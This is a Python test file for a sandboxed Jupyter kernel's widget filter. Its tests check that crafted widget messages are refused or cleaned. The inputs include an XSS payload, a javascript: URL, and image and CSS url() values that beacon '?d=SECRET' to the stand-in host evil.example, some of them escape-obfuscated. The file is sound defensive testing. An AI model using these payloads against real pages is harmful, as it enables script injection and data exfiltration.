"""Attacks on the widget policy (outputs/widgets.py) through what the frontend
builds from a state, not what the state says it is: the VIEW that renders a
model, non-text HTML values, names that reach the error widget's HTML,
``update_states`` entries naming another model, and fetches once private.

Each attack is the message a cell can send (raw comm frames, or ipywidgets'
public API, which sends the same); every test failed before the fix.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from sandbox_kernel.outputs.widgets import WidgetComms, WidgetRefused

CONTROLS = "@jupyter-widgets/controls"
BASE = "@jupyter-widgets/base"
OUTPUT = "@jupyter-widgets/output"
XSS = "<img src=x onerror=alert(1)>"


def state(model: str = "LabelModel", module: str = CONTROLS, **extra: Any) -> dict[str, Any]:
    return {
        "_model_module": module,
        "_model_module_version": "2.0.0",
        "_model_name": model,
        "_view_module": module,
        "_view_module_version": "2.0.0",
        "_view_name": model.replace("Model", "View"),
        **extra,
    }


def open_msg(comm_id: str, st: Any, paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"state": st, "buffer_paths": paths or []}
    return {
        "msg_type": "comm_open",
        "content": {"comm_id": comm_id, "target_name": "jupyter.widget", "data": data},
        "metadata": {"version": "2.1.0"},
    }


def update_msg(comm_id: str, st: dict[str, Any], paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"method": "update", "state": st, "buffer_paths": paths or []}
    return {"msg_type": "comm_msg", "content": {"comm_id": comm_id, "data": data}, "metadata": {}}


def sent_state(w: WidgetComms, msg: dict[str, Any], buffers: list[bytes] | None = None, **kw: Any) -> dict[str, Any]:
    out = w.from_sandbox(msg, buffers or [], private=kw.get("private", False))
    return dict(out.content["data"]["state"])


# ---- 1. the view decides what renders as HTML ---------------------------------------------


@pytest.mark.parametrize("view", ["HTMLView", "HTMLMathView"])
def test_a_label_cannot_be_shown_by_an_html_view_at_open(view: str) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match=f"LabelModel is shown by LabelView, not by {view}"):
        w.from_sandbox(open_msg("v1", state(_view_name=view, value=XSS)), [], private=False)
    assert not w.owns("v1")


def test_a_label_cannot_switch_to_an_html_view_later() -> None:
    """ipywidgets' public API: ``lbl._view_name = "HTMLView"`` after the
    Label's comm_open carried its raw value."""
    w = WidgetComms()
    assert sent_state(w, open_msg("v2", state(value=XSS)))["value"] == XSS  # text: shown as typed
    with pytest.raises(WidgetRefused, match="not by HTMLView"):
        w.from_sandbox(update_msg("v2", {"_view_name": "HTMLView"}), [], private=False)
    # the refused switch is not remembered: the label stays a label
    assert sent_state(w, update_msg("v2", {"value": XSS}))["value"] == XSS


def test_a_view_is_checked_whatever_order_its_pieces_come_in() -> None:
    w = WidgetComms(modules=["jupyter-matplotlib"])
    # no view at open, then an HTML view
    st = state(value=XSS)
    del st["_view_name"], st["_view_module"]
    w.from_sandbox(open_msg("v3", st), [], private=False)
    with pytest.raises(WidgetRefused, match="not by HTMLView"):
        w.from_sandbox(update_msg("v3", {"_view_module": CONTROLS, "_view_name": "HTMLView"}), [], private=False)
    # a standard model shown by an installed package's own view (custom widgets
    # keep ipywidgets' DOMWidgetModel and bring a view): that package's code is
    # trusted with its own models already, and the value stays text for it
    custom = state("DOMWidgetModel", _view_module="jupyter-matplotlib", _view_name="CanvasView", value=XSS)
    custom["_model_module"] = "@jupyter-widgets/base"
    assert sent_state(w, open_msg("v3b", custom))["_view_name"] == "CanvasView"
    # an installed package's model shown by the standard HTML view
    with pytest.raises(WidgetRefused, match="HTMLView shows only HTML widgets"):
        w.from_sandbox(
            open_msg("v4", state(module="jupyter-matplotlib", _view_module=CONTROLS, _view_name="HTMLView")),
            [],
            private=False,
        )


def test_a_standard_package_has_only_its_own_models() -> None:
    with pytest.raises(WidgetRefused, match="EvilModel is not a widget model of @jupyter-widgets/controls"):
        WidgetComms().from_sandbox(open_msg("v5", state("EvilModel")), [], private=False)


@pytest.mark.parametrize("key", ["_model_module", "_view_module"])
@pytest.mark.parametrize("bad", [[CONTROLS], {"a": CONTROLS}])
def test_a_module_that_is_no_name_is_refused_not_a_crash(key: str, bad: Any) -> None:
    """A list or object does not hash: the check raised TypeError, which the
    session does not catch."""
    with pytest.raises(WidgetRefused, match="not installed"):
        WidgetComms().from_sandbox(open_msg("v7", state(**{key: bad})), [], private=False)


def test_a_widget_names_its_model_when_it_opens() -> None:
    st = {"_model_module": CONTROLS, "value": XSS}
    with pytest.raises(WidgetRefused, match="must name its model"):
        WidgetComms().from_sandbox(open_msg("v6", st), [], private=False)


def test_every_ipywidgets_model_passes_with_its_own_view() -> None:
    """Real widgets keep working: every class ipywidgets defines, with the
    model, view and versions it sends."""
    ipywidgets = pytest.importorskip("ipywidgets")

    def subclasses(cls: type) -> list[type]:
        return [s for c in cls.__subclasses__() for s in [c, *subclasses(c)]]

    w = WidgetComms()
    keys = (
        "_model_module",
        "_model_name",
        "_view_module",
        "_view_name",
        "_model_module_version",
        "_view_module_version",
    )
    classes = [c for c in subclasses(ipywidgets.Widget) if c.__module__.startswith("ipywidgets")]
    assert len(classes) > 50
    for i, cls in enumerate(classes):
        traits = cls.class_traits()
        st = {k: traits[k].default_value for k in keys}
        w.from_sandbox(open_msg(f"w{i}", st), [], private=False)


# ---- 2. what is rendered as HTML must be text -----------------------------------------------


@pytest.mark.parametrize("value", [[XSS], {"a": XSS}, 3])
@pytest.mark.parametrize("model", ["HTMLModel", "HTMLMathModel"])
def test_an_html_value_that_is_not_text_is_refused(model: str, value: Any) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="rendered as HTML and must be text"):
        w.from_sandbox(open_msg("t1", state(model, value=value)), [], private=False)
    w.from_sandbox(open_msg("t2", state(model, value="<b>ok</b>")), [], private=False)
    with pytest.raises(WidgetRefused, match="rendered as HTML and must be text"):
        w.from_sandbox(update_msg("t2", {"value": value}), [], private=False)
    with pytest.raises(WidgetRefused, match="not a binary buffer"):
        w.from_sandbox(update_msg("t2", {}, paths=[["value"]]), [XSS.encode()], private=False)


def test_an_html_description_that_is_not_text_is_refused() -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="description must be text"):
        w.from_sandbox(open_msg("t3", state(description=[XSS], description_allow_html=True)), [], private=False)


# ---- 3. names and versions reach the error widget's HTML ------------------------------------


BAD = [XSS, "<b>x</b>", "a b", "x" * 101, ["LabelView"]]
# an empty version is what ipywidgets sends for a model without a view
NAMES_AND_VERSIONS = [(k, bad) for k in ("_model_name", "_view_name") for bad in [*BAD, ""]] + [
    (k, bad) for k in ("_model_module_version", "_view_module_version") for bad in [*BAD, "1.0&lt;"]
]


@pytest.mark.parametrize(("key", "bad"), NAMES_AND_VERSIONS)
def test_names_and_versions_must_be_plain(key: str, bad: Any) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match=f"widget {key} must be"):
        w.from_sandbox(open_msg("n1", state(**{key: bad})), [], private=False)
    if key != "_model_name":  # the model cannot change anyway
        w.from_sandbox(open_msg("n2", state()), [], private=False)
        with pytest.raises(WidgetRefused, match=f"widget {key} must be"):
            w.from_sandbox(update_msg("n2", {key: bad}), [], private=False)


@pytest.mark.parametrize("version", ["2.0.0", "^1.5.0", "~0.1.0-beta.1", "*", ">=1.0 <2", "1.x", "1.0.0 || 2.0.0", ""])
def test_ordinary_versions_pass(version: str) -> None:
    w = WidgetComms()
    w.from_sandbox(
        open_msg("n3", state(_model_module_version=version, _view_module_version=version)), [], private=False
    )


def test_message_version_with_markup_is_dropped() -> None:
    msg = {**open_msg("n4", state()), "metadata": {"version": "<b>2</b>"}}
    assert WidgetComms().from_sandbox(msg, [], private=False).metadata == {}


# ---- 4. update_states names each model as it was opened -------------------------------------


def _control(w: WidgetComms) -> None:
    w.from_frontend("comm_open", {"comm_id": "ctl", "target_name": "jupyter.widget.control", "data": {}})


def _update_states(states: dict[str, Any], paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"method": "update_states", "states": states, "buffer_paths": paths or []}
    return {"msg_type": "comm_msg", "content": {"comm_id": "ctl", "data": data}, "metadata": {}}


OUTPUTS = [{"output_type": "display_data", "data": {"text/html": XSS}, "metadata": {}}]


@pytest.mark.parametrize(
    ("entry", "st"),
    [
        # the audit's case: an Output entry whose state claims to be a Label
        ({"model_name": "OutputModel", "model_module": OUTPUT}, {"_model_name": "LabelModel"}),
        ({"model_name": "OutputModel", "model_module": OUTPUT}, {}),
        ({"model_name": "LabelModel", "model_module": CONTROLS}, {"_model_name": "OutputModel"}),
        ({"model_name": "LabelModel", "model_module": CONTROLS}, {"_model_module": OUTPUT}),
        ({"model_name": "LabelModel", "model_module": OUTPUT}, {}),
    ],
)
def test_update_states_entries_must_name_the_model_as_opened(entry: dict[str, Any], st: dict[str, Any]) -> None:
    w = WidgetComms()
    _control(w)
    w.from_sandbox(open_msg("u1", state(value="x")), [], private=False)
    states = {"u1": {**entry, "model_module_version": "1.0.0", "state": {**st, "outputs": OUTPUTS}}}
    out = w.from_sandbox(_update_states(states), [], private=False)
    assert out.content["data"]["states"] == {}
    assert any("u1" in n and "left out" in n for n in out.notes)


def test_update_states_cleans_with_the_models_own_name() -> None:
    w = WidgetComms()
    _control(w)
    w.from_sandbox(open_msg("u2", state("OutputModel", module=OUTPUT)), [], private=False)
    w.from_sandbox(open_msg("u3", state("HTMLModel", value="ok")), [], private=False)
    states = {
        "u2": {"model_name": "OutputModel", "model_module": OUTPUT, "state": {"outputs": OUTPUTS}},
        "u3": {
            "model_name": "HTMLModel",
            "model_module": CONTROLS,
            "model_module_version": "2.0.0",
            "state": {"value": XSS},
        },
    }
    out = w.from_sandbox(_update_states(states), [], private=False)
    kept = out.content["data"]["states"]
    assert "onerror" not in json.dumps(kept) and set(kept) == {"u2", "u3"}
    assert kept["u2"]["model_name"] == "OutputModel" and kept["u2"]["model_module_version"] == ""
    bad_version = {"u3": {**states["u3"], "model_module_version": XSS}}
    assert w.from_sandbox(_update_states(bad_version), [], private=False).content["data"]["states"] == {}
    # a view switch inside update_states is checked like any other
    switch = {"u3": {**states["u3"], "state": {"_view_name": "LabelView", "value": "ok"}}}
    assert w.from_sandbox(_update_states(switch), [], private=False).content["data"]["states"] == {}


# ---- 5. once private, widgets fetch nothing -------------------------------------------------


@pytest.mark.parametrize("model", ["ImageModel", "VideoModel", "AudioModel"])
@pytest.mark.parametrize("url", [b"https://evil.example/x?d=SECRET", b"//evil.example/a.mp3", b" \thttps://e.example"])
def test_a_media_url_loads_nothing_once_private(model: str, url: bytes) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="cannot load external URL"):
        w.from_sandbox(open_msg("p1", state(model, format="url"), [["value"]]), [url], private=True)
    # public sessions may load images from the web, as <img src> may
    w.from_sandbox(open_msg("p2", state(model, format="url"), [["value"]]), [url], private=False)
    # a data: image loads nothing
    w.from_sandbox(
        open_msg("p3", state(model, format="url"), [["value"]]), [b"data:image/png;base64,AA=="], private=True
    )


def test_a_media_url_cannot_come_in_pieces_once_private() -> None:
    w = WidgetComms()
    w.from_sandbox(
        open_msg("p4", state("ImageModel", format="png"), [["value"]]), [b"https://e.example/x"], private=False
    )
    with pytest.raises(WidgetRefused, match="loads no URL"):  # the value already sent would load
        w.from_sandbox(update_msg("p4", {"format": "url"}), [], private=True)
    w.from_sandbox(update_msg("p4", {"format": "url"}), [], private=False)
    with pytest.raises(WidgetRefused, match="cannot load external URL"):
        w.from_sandbox(update_msg("p4", {}, paths=[["value"]]), [b"https://e.example/y"], private=True)
    with pytest.raises(WidgetRefused, match="javascript: URL"):
        w.from_sandbox(update_msg("p4", {}, paths=[["value"]]), [b"javascript:alert(1)"], private=False)
    w.from_sandbox(update_msg("p4", {"format": "png"}, paths=[["value"]]), [b"\x89PNG"], private=True)


def _fetches(css: str | None) -> bool:
    """Whether a CSS value still names something to load from evil.example."""
    low = (css or "").lower()
    return "evil" in low and any(f in low for f in ("url(", "image-set(", "image("))


@pytest.mark.parametrize(
    "css",
    [
        "url(//evil.example/bg?d=SECRET)",
        "url(https\\3a //evil.example/bg2)",
        "u\\72l(https://evil.example/x)",
        "image-set('https://evil.example/x' 1x)",
        "red url('https://evil.example/x')",
    ],
)
@pytest.mark.parametrize(("model", "module"), [("HTMLStyleModel", CONTROLS), ("LayoutModel", BASE)])
def test_style_values_fetch_nothing_once_private(model: str, module: str, css: str) -> None:
    w = WidgetComms()
    st = state(
        model, module=module, _view_module=BASE, _view_name="LayoutView" if model == "LayoutModel" else "StyleView"
    )
    sent = sent_state(w, open_msg("s1", {**st, "background": css, "font_size": "12px"}), private=True)
    assert not _fetches(sent["background"]) and sent["font_size"] == "12px"
    again = sent_state(w, update_msg("s1", {"background": css}), private=True)
    assert not _fetches(again["background"])
    with pytest.raises(WidgetRefused, match=r"style value 'background'.*must be text"):
        w.from_sandbox(update_msg("s1", {"background": [css]}), [], private=True)


def test_style_values_keep_ordinary_css() -> None:
    st = state("ButtonStyleModel", _view_module=BASE, _view_name="StyleView", button_color="lightgreen")
    sent = sent_state(WidgetComms(), open_msg("s2", {**st, "font_weight": "bold", "background": "#fff"}), private=True)
    assert (sent["button_color"], sent["font_weight"], sent["background"]) == ("lightgreen", "bold", "#fff")


@pytest.mark.parametrize("flag", [1, "yes", [], {}, 0.5])
def test_a_truthy_allow_html_is_html(flag: Any) -> None:
    """JavaScript tests ``description_allow_html`` for truthiness."""
    w = WidgetComms()
    sent = sent_state(
        w, open_msg("h1", state(description=XSS + '<img src="//evil.example/d">', description_allow_html=flag))
    )
    assert sent["description_allow_html"] is True and "onerror" not in sent["description"]
    private = sent_state(w, update_msg("h1", {"description": '<img src="//evil.example/d">'}), private=True)
    assert "evil.example/d" not in private["description"]


@pytest.mark.parametrize("flag", [0, "", None, False])
def test_a_falsy_allow_html_is_text(flag: Any) -> None:
    sent = sent_state(WidgetComms(), open_msg("h2", state(description=XSS, description_allow_html=flag)))
    assert sent["description_allow_html"] is False and sent["description"] == XSS


def test_refusals_quote_no_link_once_private() -> None:
    """A refusal quotes what the sandbox sent, and the user reads it as stream
    text: once private, the quote must not be a link to click."""
    w = WidgetComms()
    with pytest.raises(WidgetRefused) as refused:
        w.from_sandbox(open_msg("q1", state(_view_name="https://evil.example/?d=SECRET")), [], private=True)
    assert "evil.example" in str(refused.value) and "https://" not in str(refused.value)
    with pytest.raises(WidgetRefused, match="https://"):  # public: quoted as sent
        w.from_sandbox(open_msg("q1", state(_view_name="https://evil.example/")), [], private=False)
